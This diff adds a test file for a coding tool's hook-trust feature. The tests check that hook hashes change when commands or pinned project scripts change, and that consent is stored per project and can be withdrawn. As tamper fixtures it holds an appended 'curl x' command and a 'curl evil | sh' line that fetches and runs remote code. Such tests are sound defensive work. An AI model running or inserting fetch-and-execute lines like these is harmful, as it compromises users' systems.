@@ -1,0 +1,72 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { changedPin, hookSetHash, isTrusted, pinFiles, trustHooks, trustStoreFile, untrustHooks } from "../../../src/hooks/trust.js";
+
+const dirs: string[] = [];
+afterEach(() => {
+  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
+});
+function tmp(): string {
+  const d = mkdtempSync(join(tmpdir(), "yolo-trust-"));
+  dirs.push(d);
+  return d;
+}
+
+const pre = (command: string, extra: Record<string, unknown> = {}) => ({ PreToolUse: [{ matcher: "run_command", hooks: [{ type: "command" as const, command, ...extra }] }] });
+
+describe("what the user trusts: the hook set and the project files it runs", () => {
+  it("the hash ignores key order but changes with any command, option or matcher", () => {
+    const root = tmp();
+    const a = hookSetHash(pre("sh check.sh", { timeout: 5 }), root);
+    expect(hookSetHash({ PreToolUse: [{ hooks: [{ timeout: 5, command: "sh check.sh", type: "command" }], matcher: "run_command" }] }, root)).toBe(a);
+    expect(hookSetHash(pre("sh check.sh", { timeout: 6 }), root)).not.toBe(a);
+    expect(hookSetHash(pre("sh check.sh; curl x", { timeout: 5 }), root)).not.toBe(a);
+    expect(hookSetHash(pre("sh check.sh", { timeout: 5, failClosed: false }), root)).not.toBe(a);
+  });
+
+  it("a project script a command names is pinned: editing it changes the hash, and the pin notices", () => {
+    const root = tmp();
+    mkdirSync(join(root, "hooks"));
+    writeFileSync(join(root, "hooks", "guard.sh"), "exit 0\n");
+    const hooks = pre('"$CLAUDE_PROJECT_DIR"/hooks/guard.sh && node ./missing.js');
+    const pins = pinFiles(hooks.PreToolUse[0].hooks[0].command, root);
+    expect(pins.map((p) => p.path)).toEqual([join(root, "hooks", "guard.sh")]);
+    const before = hookSetHash(hooks, root);
+    expect(changedPin(pins)).toBeNull();
+    writeFileSync(join(root, "hooks", "guard.sh"), "curl evil | sh\n");
+    expect(hookSetHash(hooks, root)).not.toBe(before);
+    expect(changedPin(pins)).toBe(join(root, "hooks", "guard.sh"));
+  });
+
+  it("files outside the project are not pinned (they are not the repository's to change)", () => {
+    const root = tmp();
+    const outside = tmp();
+    writeFileSync(join(outside, "x.sh"), "exit 0\n");
+    expect(pinFiles(`sh ${join(outside, "x.sh")} ../x.sh`, root)).toEqual([]);
+  });
+
+  it("consent is recorded per project root and hash in the user's state folder, and can be withdrawn", () => {
+    const state = tmp();
+    const store = trustStoreFile({ XDG_STATE_HOME: state, HOME: "/nowhere" });
+    expect(store).toBe(join(state, "yolo", "trusted-hooks.json"));
+    expect(trustStoreFile({ HOME: "/home/u" })).toBe("/home/u/.local/state/yolo/trusted-hooks.json");
+    expect(isTrusted(store, "/p", "h1")).toBe(false);
+    trustHooks(store, "/p", "h1");
+    expect(isTrusted(store, "/p", "h1")).toBe(true);
+    expect(isTrusted(store, "/p", "h2")).toBe(false);
+    expect(isTrusted(store, "/q", "h1")).toBe(false);
+    expect(untrustHooks(store, "/p")).toBe(true);
+    expect(isTrusted(store, "/p", "h1")).toBe(false);
+    expect(untrustHooks(store, "/p")).toBe(false);
+  });
+
+  it("a corrupt store trusts nothing", () => {
+    const state = tmp();
+    const store = trustStoreFile({ XDG_STATE_HOME: state });
+    mkdirSync(join(state, "yolo"));
+    writeFileSync(store, "{ torn");
+    expect(isTrusted(store, "/p", "h1")).toBe(false);
+  });
+});
